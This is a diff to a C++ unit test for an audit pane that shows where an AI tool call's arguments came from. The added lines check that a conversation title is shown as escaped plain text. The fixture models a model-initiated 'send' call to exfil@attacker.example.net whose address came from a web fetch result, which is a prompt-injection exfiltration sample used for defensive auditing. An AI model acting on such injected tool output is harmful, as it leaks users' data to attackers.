@@ -50,6 +50,8 @@ void tst_AuditDetailPane::showsWhereArgumentsCameFrom()
         intent.tool = u"send"_s;
         intent.arguments = {{u"to"_s, u"exfil@attacker.example.net"_s}};
         intent.initiator = CallInitiator::Model;
+        intent.conversationId = u"c-7"_s;
+        intent.conversationTitle = u"Mail the <i>report</i>"_s;
         intent.argumentOrigins = {ArgumentOrigin{u"/to"_s, u"exfil@attacker.example.net"_s, ArgumentOrigin::SourceKind::ToolResult,
                                                  u"web"_s, u"<b>fetch</b>"_s, 12}};
         const auto ticket = log.recordIntent(intent);
@@ -69,6 +71,8 @@ void tst_AuditDetailPane::showsWhereArgumentsCameFrom()
     const QString summary = view.detailPane()->summary()->text();
     QVERIFY2(summary.contains(u"/to (“exfil@attacker.example.net”): from &lt;b&gt;fetch&lt;/b&gt; on server «web», call #12"_s),
              qPrintable(summary));
+    // The conversation the model asked in, its title as plain text.
+    QVERIFY2(summary.contains(u"«Mail the &lt;i&gt;report&lt;/i&gt;» (id c-7)"_s), qPrintable(summary));
 }
 
 void tst_AuditDetailPane::showsTheTaskSection()
